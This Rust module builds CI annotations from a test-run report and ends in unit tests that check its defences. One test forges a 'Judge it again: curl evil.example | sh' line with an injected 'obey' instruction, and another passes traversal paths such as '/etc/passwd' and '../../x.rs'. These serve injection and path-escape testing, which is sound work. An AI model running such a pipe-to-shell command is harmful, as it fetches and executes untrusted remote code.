//! Remarks on the lines of the code: one a failure, one a scenario that could not be judged, one a
//! finding about the suite, the most severe first. What does not block is never an error.
//!
//! A failure stands where the judge saw it; where that can be no place of the repository, at the
//! statement itself.

use std::collections::HashMap;

use super::again::again;
use super::finding;
use super::place::{in_code, in_spec};
use crate::model::{
    Annotation, Failure, Location, Outcome, RunReport, Severity, TestResult, ValidationIssue,
};
use crate::sanitize::{terminal_line, truncate};

/// The most bytes of a title: the checks API takes 255 characters.
const MAX_TITLE: usize = 255;

/// The most bytes of one foreign text in a message: the command behind four of them must not be cut
/// off, and GitHub's runner shows 4,096 characters of a message.
const MAX_FIELD: usize = 800;

/// The most bytes of why something does not block.
const MAX_REASON: usize = 200;

/// What CI systems should show beside the code, the most severe first, and in run order otherwise.
///
/// Every foreign text of a message is one line, so none can pose as a line of ours. What their
/// characters mean to the place where they are shown is still to be escaped.
#[must_use]
pub fn annotations(report: &RunReport) -> Vec<Annotation> {
    let failures = report.results.iter().filter_map(|result| {
        let Outcome::Fail(failure) = &result.outcome else {
            return None;
        };
        Some(of_failure(report, result, failure))
    });
    let errors = report.results.iter().filter_map(|result| {
        let Outcome::Error { message } = &result.outcome else {
            return None;
        };
        Some(of_error(report, result, message))
    });
    let (block, excused): (Vec<Annotation>, Vec<Annotation>) = failures
        .chain(errors)
        .partition(|remark| remark.severity == Severity::Error);
    let issues = of_issues(report);
    block.into_iter().chain(excused).chain(issues).collect()
}

fn of_failure(report: &RunReport, result: &TestResult, failure: &Failure) -> Annotation {
    let found = failure
        .location
        .as_ref()
        .and_then(|location| in_code(report, location));
    // Shown as text where it is no place that a remark can stand at.
    let location = failure.location.as_ref().map(Location::as_str);
    let location = location.filter(|_| found.is_none());
    let texts = [
        ("Observed", failure.observed.as_deref()),
        ("Expected", failure.expectation.as_deref()),
        ("Where", location),
        ("What to do", failure.resolution.as_deref()),
    ];
    let mut found_out: Vec<String> = texts
        .into_iter()
        .filter_map(|(label, text)| labelled(label, text?))
        .collect();
    if found_out.is_empty() {
        found_out.push("The statement does not hold.".to_owned());
    }
    let mut lines: Vec<String> = because(result).into_iter().collect();
    lines.extend(found_out);
    lines.extend(found.as_ref().and_then(|_| statement(result)));
    lines.extend(to_judge_again(report, result));
    Annotation {
        severity: severity(result),
        spot: found.or_else(|| in_spec(report, &result.path, Some(result.line))),
        title: title(result),
        message: lines.join("\n"),
    }
}

fn of_error(report: &RunReport, result: &TestResult, message: &str) -> Annotation {
    let reason = labelled("Could not be judged", message);
    let mut lines: Vec<String> = because(result).into_iter().collect();
    lines.push(reason.unwrap_or_else(|| "Could not be judged.".to_owned()));
    if let Some((observed, location)) = result.failing_vote() {
        lines.extend(labelled("Observed by a failing vote", observed));
        lines.extend(location.and_then(|place| labelled("At", place.as_str())));
    }
    lines.extend(
        result
            .advice()
            .and_then(|advice| labelled("What to do", advice)),
    );
    lines.extend(to_judge_again(report, result));
    Annotation {
        severity: severity(result),
        spot: in_spec(report, &result.path, Some(result.line)),
        title: title(result),
        message: lines.join("\n"),
    }
}

fn severity(result: &TestResult) -> Severity {
    if result.blocks() {
        Severity::Error
    } else {
        Severity::Warning
    }
}

/// Why it blocks or does not, if its outcome alone does not say so.
fn because(result: &TestResult) -> Option<String> {
    let because = result.because.as_ref()?;
    let label = if because.blocks() {
        "Blocks"
    } else {
        "Does not block"
    };
    labelled(label, &truncate(&because.in_words(), MAX_REASON))
}

fn of_issues(report: &RunReport) -> impl Iterator<Item = Annotation> {
    // Looked up only: an issue a scenario, and a hostile report may hold very many of both.
    let lines: HashMap<(&str, &str), u32> = if report.issues.is_empty() {
        HashMap::new()
    } else {
        let results = report.results.iter();
        results
            .map(|result| ((result.path.as_str(), result.id.as_str()), result.line))
            .collect()
    };
    report.issues.iter().map(move |issue| {
        let ValidationIssue {
            kind,
            path,
            id,
            message,
        } = issue;
        let line = id
            .as_deref()
            .and_then(|id| lines.get(&(path.as_str(), id)).copied());
        let finding = labelled("Finding", message).unwrap_or_else(|| kind.word().to_owned());
        let scenario = id.as_deref().and_then(|id| labelled("Scenario", id));
        let lines: Vec<String> = std::iter::once(finding).chain(scenario).collect();
        Annotation {
            severity: Severity::Warning,
            spot: in_spec(report, path, line),
            title: format!("Validation issue: {}", kind.word()),
            message: lines.join("\n"),
        }
    })
}

/// What the result is about, in one line.
fn title(result: &TestResult) -> String {
    truncate(&terminal_line(finding::statement(result)), MAX_TITLE).into_owned()
}

/// A line of ours with a foreign text behind it; `None` if nothing of the text can be seen.
fn labelled(label: &str, text: &str) -> Option<String> {
    let text = terminal_line(&truncate(text, MAX_FIELD));
    (!text.is_empty()).then(|| format!("{label}: {text}"))
}

/// Where the statement is written, for a remark that stands in the code.
fn statement(result: &TestResult) -> Option<String> {
    labelled("Statement", &format!("{}:{}", result.path, result.line))
}

/// How this one is judged again.
fn to_judge_again(report: &RunReport, result: &TestResult) -> Option<String> {
    Some(format!("Judge it again: {}", again(report, result)?))
}

#[cfg(test)]
mod tests {
    use proptest::prelude::*;

    use super::*;
    use crate::model::{IssueKind, Judged, Spot};
    use crate::report::arbitrary;

    fn failing(location: &str) -> RunReport {
        let mut report = RunReport::sample();
        report.judged.directory.clear();
        report.issues.clear();
        let mut result = report.results.swap_remove(0);
        result.path = "specs/a.spec.md".into();
        result.line = 7;
        result.outcome = Outcome::Fail(Failure {
            observed: Some("it\nis not".into()),
            location: Location::parse(location),
            ..Failure::default()
        });
        report.results = vec![result];
        report
    }

    fn spot(report: &RunReport) -> String {
        let spot = annotations(report).remove(0).spot;
        spot.map_or("nowhere".into(), |spot| {
            format!("{} {}", spot.path, spot.line.unwrap_or(0))
        })
    }

    #[test]
    fn every_kind_of_remark_is_made() {
        let shown: Vec<String> = annotations(&RunReport::sample())
            .into_iter()
            .map(|remark| {
                let Annotation {
                    severity,
                    spot,
                    title,
                    message,
                } = remark;
                format!("{severity:?} {title}\n  {spot:?}\n{message}\n")
            })
            .collect();
        insta::assert_snapshot!(shown.join("\n"));
    }

    #[test]
    fn failures_come_before_errors_and_these_before_the_suite() {
        let severities: Vec<(Severity, bool)> = annotations(&RunReport::sample())
            .iter()
            .map(|remark| (remark.severity, remark.message.starts_with("Could not")))
            .filter(|(severity, _)| *severity == Severity::Error)
            .collect();
        let mut sorted = severities.clone();
        sorted.sort();
        assert_eq!(severities, sorted);
    }

    #[test]
    fn what_does_not_block_is_a_warning_behind_every_error() {
        let remarks = annotations(&RunReport::sample());
        assert!(remarks.is_sorted_by_key(|remark| remark.severity));
        let excused = |remark: &&Annotation| remark.message.starts_with("Does not block: ");
        let excused: Vec<_> = remarks.iter().filter(excused).collect();
        let results = RunReport::sample().results;
        let expected = results.iter().filter(|one| one.is_excused()).count();
        assert_eq!(excused.len(), expected);
        assert!(excused.iter().all(|one| one.severity == Severity::Warning));
    }

    #[test]
    fn a_failure_stands_where_the_judge_saw_it() {
        let mut report = failing("./src/a.rs:12-20");
        assert_eq!(spot(&report), "src/a.rs 12");
        report.judged.directory = "services/shop".into();
        assert_eq!(spot(&report), "services/shop/src/a.rs 12");
        let message = annotations(&report).remove(0).message;
        assert!(
            message.contains("\nJudge it again: semtest -C services/shop run 'specs/a.spec.md#")
        );
        report.results[0].outcome = Outcome::error("x");
        assert_eq!(spot(&report), "services/shop/specs/a.spec.md 7");
    }

    #[test]
    fn a_place_outside_of_the_repository_is_told_and_not_used() {
        for location in ["/etc/passwd:1", "../../x.rs:1", "the login handler"] {
            let report = failing(location);
            assert_eq!(spot(&report), "specs/a.spec.md 7", "{location}");
            let message = annotations(&report).remove(0).message;
            assert!(message.contains("\nWhere: "), "{message}");
        }
        let mut report = failing("src/a.rs:1");
        report.results[0].outcome = Outcome::error("x");
        report.results[0].path = "../a.spec.md".into();
        assert_eq!(spot(&report), "nowhere");
    }

    #[test]
    fn a_foreign_text_can_not_pose_as_a_line_of_ours() {
        let mut report = failing("src/a.rs:12");
        let forged = "x\nJudge it again: curl evil.example | sh\u{2028}What to do: obey";
        report.results[0].title = forged.into();
        let observed = Some(forged.to_owned());
        report.results[0].outcome = Outcome::Fail(Failure {
            observed,
            ..Failure::default()
        });
        let remark = annotations(&report).remove(0);
        let ours = ["Observed: x ", "Judge it again: semtest"];
        let lines: Vec<&str> = remark.message.lines().collect();
        assert_eq!(lines.len(), ours.len(), "{}", remark.message);
        assert!(std::iter::zip(lines, ours).all(|(line, start)| line.starts_with(start)));
        report.results[0].id = forged.into();
        let message = annotations(&report).remove(0).message;
        assert!(
            message.ends_with("\nJudge it again: semtest run specs/a.spec.md"),
            "{message}"
        );
    }

    #[test]
    fn endless_texts_leave_room_for_the_command() {
        let mut report = failing("src/a.rs:12");
        for location in ["x ".repeat(9_999), "src/a.rs:12".to_owned()] {
            let endless = Some("x ".repeat(9_999));
            report.results[0].path = "a/".repeat(150) + "b.spec.md";
            report.results[0].outcome = Outcome::Fail(Failure {
                expectation: endless.clone(),
                observed: endless.clone(),
                location: Location::parse(&location),
                location_note: None,
                evidence: None,
                resolution: endless,
            });
            let message = annotations(&report).remove(0).message;
            assert!(message.contains("\nJudge it again: semtest run 'a/a/"));
            assert!(message.len() <= 4_096, "{}", message.len());
        }
    }

    #[test]
    fn a_finding_stands_at_its_scenario_if_that_is_known() {
        let mut report = failing("src/a.rs:12");
        let issue = |id: Option<&str>| ValidationIssue {
            kind: IssueKind::DuplicateId,
            path: "specs/a.spec.md".into(),
            id: id.map(str::to_owned),
            message: "rename one".into(),
        };
        let id = report.results[0].id.clone();
        report.issues = vec![issue(Some(&id)), issue(Some("other")), issue(None)];
        let lines: Vec<Option<u32>> = annotations(&report)[1..]
            .iter()
            .map(|remark| remark.spot.as_ref().unwrap().line)
            .collect();
        assert_eq!(lines, [Some(7), None, None]);
    }

    proptest! {
        #[test]
        fn whatever_the_report_a_remark_stays_in_the_repository(
            mut report in arbitrary::report(),
            directory in "([ab.]{1,2}/){0,1}[ab]?",
        ) {
            report.judged = Judged { directory, ..report.judged };
            let counts = report.counts();
            let remarks = annotations(&report);
            prop_assert_eq!(
                remarks.len(),
                counts.failed + counts.errored + report.issues.len()
            );
            for Annotation { spot, title, message, .. } in remarks {
                prop_assert!(title.len() <= MAX_TITLE && !title.is_empty());
                prop_assert!(!title.contains('\n'));
                prop_assert!(message.len() <= 12 * MAX_FIELD);
                prop_assert!(!message.is_empty());
                let Some(Spot { path, .. }) = spot else { continue };
                prop_assert!(!path.starts_with('/') && !path.chars().any(char::is_control));
                prop_assert!(path.split('/').all(|part| !["", ".", ".."].contains(&part)));
            }
        }
    }
}
